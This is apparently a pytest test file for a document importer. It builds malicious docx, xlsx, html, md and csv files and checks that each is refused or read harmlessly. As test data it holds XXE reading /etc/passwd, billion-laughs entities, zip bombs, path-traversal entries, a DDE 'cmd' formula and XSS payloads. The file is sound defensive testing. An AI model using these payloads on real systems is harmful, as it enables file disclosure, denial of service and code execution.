"""Files made to do harm: each is read harmlessly or refused in words, within memory and time, and
nothing is written, run or fetched."""

import io
import zipfile

import pytest
from openpyxl import Workbook

from tests.granulating.files import docx, repacked, saved, xlsx
from tests.importing.harmless import assert_harmless, read_all

GOOD = docx(("h1", "如何挂失？"), ("p", "请马上挂失。"))
TABLE = xlsx([["问题", "答案"], ["如何挂失？", "请马上挂失。"]])
MAIN, STYLES = "word/document.xml", "word/styles.xml"
SHEET = "xl/worksheets/sheet1.xml"
OUTSIDE = "http://192.0.2.1/secret"


def part(data, name):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name)


def with_doctype(xml, doctype, *, entity=b""):
    head, _, rest = xml.partition(b"?>")
    return head + b"?>" + doctype + rest.replace("请马上挂失。".encode(), entity or b"x")


def in_utf16(doctype):
    text = '<?xml version="1.0" encoding="UTF-16"?>' + doctype.decode() + "<w>&j;</w>"
    return text.encode("utf-16")


def deep_xml():
    inner = b"<w:sdt><w:sdtContent>" * 5000 + b"</w:sdtContent></w:sdt>" * 5000
    return part(GOOD, MAIN).replace(b"<w:body>", b"<w:body>" + inner)


def encrypted():
    data = bytearray(GOOD)
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def doubled():
    made = io.BytesIO(GOOD)
    with zipfile.ZipFile(made, "a") as package, pytest.warns(UserWarning):
        package.writestr(MAIN, part(GOOD, MAIN))
    return made.getvalue()


def formulas():
    book = Workbook()
    book.active.append(["问题", "答案"])
    book.active.append(["如何挂失？", '=HYPERLINK("http://192.0.2.1","点")'])
    book.active.append(["=cmd|' /C calc'!A0", "好"])
    return saved(book)


def far_cell():
    sheet = part(TABLE, SHEET).replace(b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')  # fmt: skip
    return repacked(TABLE, change={SHEET: sheet})


def beyond():
    sheet = part(TABLE, SHEET).replace(b"</sheetData>",
        b'<row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>')  # fmt: skip
    return repacked(TABLE, change={SHEET: sheet})


def many_cells():
    row = b"".join(b'<c t="n"><v>1</v></c>' for _ in range(90))
    rows = b"".join(b"<row>" + row + b"</row>" for _ in range(2500))
    sheet = part(TABLE, SHEET).replace(b"</sheetData>", rows + b"</sheetData>")
    return repacked(TABLE, change={SHEET: sheet})


LAUGHS = b'<!DOCTYPE w [<!ENTITY a "%s">%s]>' % (
    b"ha" * 50,
    b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(10)),
)
XXE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = b'<!DOCTYPE w SYSTEM "http://192.0.2.1/a.dtd">'
RELATION = (
    b'<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>'
)
RELS = "word/_rels/document.xml.rels"
ACTIVE = f"""<h1>如何挂失？</h1><p onclick="alert(1)">请马上挂失。</p><script>alert(1)</script>
<iframe src="{OUTSIDE}"></iframe><img src="{OUTSIDE}" onerror="alert(1)" alt="图">
<a href="javascript:alert(1)">点这里</a><form action="{OUTSIDE}"><input></form>
<svg onload="alert(1)"></svg><link rel=stylesheet href="{OUTSIDE}"><base href="{OUTSIDE}">"""

# Name → content, or how it is made where that takes long, and what must be said of it: refused
# with these words, or read as these.
FILES = {
    "bomb.docx": (lambda: repacked(GOOD, add={"word/a.xml": b"\0" * 120_000_000}), "refused"),
    "bomb-xml.docx": (
        lambda: repacked(GOOD, change={MAIN: b"<a>" + b"<b/>" * 6_000_000 + b"</a>"}), "refused"),
    "bomb-text.xlsx": (
        lambda: repacked(TABLE, change={SHEET: b"<a>" + b"x" * 50_000_000 + b"</a>"}), "refused"),
    "traversal.docx": (repacked(GOOD, add={"../../../tmp/owned.txt": b"x"}), "refused"),
    "absolute.xlsx": (repacked(TABLE, add={"/etc/cron.d/owned": b"x"}), "refused"),
    "drive.docx": (repacked(GOOD, add={"C:\\owned.txt": b"x"}), "refused"),
    "xxe.docx": (
        repacked(GOOD, change={MAIN: with_doctype(part(GOOD, MAIN), XXE, entity=b"&x;")}),
        "refused",
    ),
    "remote-dtd.xlsx": (
        repacked(TABLE, change={SHEET: with_doctype(part(TABLE, SHEET), REMOTE)}), "refused"),
    "laughs.docx": (
        repacked(GOOD, change={MAIN: with_doctype(part(GOOD, MAIN), LAUGHS, entity=b"&j;")}),
        "refused",
    ),
    "laughs-utf16.xlsx": (repacked(TABLE, change={SHEET: in_utf16(LAUGHS)}), "refused"),
    "laughs-in-styles.docx": (
        repacked(GOOD, change={STYLES: with_doctype(part(GOOD, STYLES), XXE)}), "refused"),
    "macros.docx": (repacked(GOOD, add={"word/vbaProject.bin": b"x"}), "refused"),
    "deep.docx": (lambda: repacked(GOOD, change={MAIN: deep_xml()}), "refused"),
    "doubled.docx": (doubled(), "refused"),
    "encrypted.docx": (encrypted(), "refused"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "refused"),
    "torn.docx": (GOOD[: len(GOOD) // 2], "refused"),
    "empty-zip.xlsx": (b"PK\x05\x06" + b"\0" * 18, "refused"),
    "template.docx": (
        repacked(GOOD, change={RELS: part(GOOD, RELS).replace(b"</Rel", RELATION + b"</Rel", 1)}),
        "请马上挂失。",
    ),
    "far-cell.xlsx": (far_cell, "refused"),
    "beyond.xlsx": (beyond, "refused"),
    "many-cells.xlsx": (many_cells, "refused"),
    "formulas.xlsx": (formulas(), "formula"),
    "docx-as.xlsx": (GOOD, "refused"),
    "picture-as.md": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "refused"),
    "pdf-as.docx": (b"%PDF-1.7 x", "refused"),
    "docx-as.html": (GOOD, "refused"),
    "broken.md": ("# 如何挂失？\n\n请马上挂失。\n".encode() * 20 + b"\xff\xfe\xfa", "refused"),
    "utf16.html": ("<h1>如何挂失？</h1>".encode("utf-16"), "refused"),
    "nul.md": (b"# a\0b\n\nc", "refused"),
    "deep.html": (b"<div>" * 25_000 + b"x" + b"</div>" * 25_000, "refused"),
    "wide.html": (b"<b>x</b>" * 200_000, "refused"),
    "lists.html": (b"<ul><li>x" * 10_000, "refused"),
    "active.html": (ACTIVE.encode(), "请马上挂失。"),
    "unclosed.csv": (b'"question",answer\n"' + b"x" * 4_000_000, "bad row"),
    "long-cell.csv": (b"question,answer\na?," + b"x" * 100_000, "refused"),
    "brackets.md": (b"[" * 200_000 + b"](" * 200_000 + b"**" * 200_000, "refused"),
    "brackets-few.md": (b"[" * 20_000 + b"](" * 20_000 + b"**" * 5_000, ""),
    "templates.md": (b"{%" * 300_000 + b"]({{" * 500_000, "refused"),
    "templates-few.md": (b"{%" * 15_000 + b"]({{" * 14_000, ""),
    "no-end.md": (b"A. B. " * 60_000, ""),
    "quotes.md": (b"> " * 100_000, ""),
    "equal.csv": ("问题,答案\n".encode() + "卡丢了？,好\n".encode() * 3_000, "卡丢了？"),
}  # fmt: skip


@pytest.fixture(scope="module")
def told(tmp_path_factory):
    folder, home = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("home")
    for name, (content, _expected) in FILES.items():
        (folder / name).write_bytes(content() if callable(content) else content)
    return read_all(folder, door="granulating", home=home)


@pytest.mark.parametrize("name", FILES)
def test_is_harmless(told, name):
    assert_harmless(told[name], FILES[name][1])


def test_nothing_active_gets_into_a_proposal(told):
    said = told["active.html"]["said"]
    proposed, _, left_out = said.partition("]]")
    assert "alert" not in proposed and "javascript" not in said and OUTSIDE not in proposed
    assert '"active"' in left_out and '"picture"' in left_out


def test_a_formula_without_a_value_is_named(told):
    assert "=HYPERLINK" in told["formulas.xlsx"]["said"]
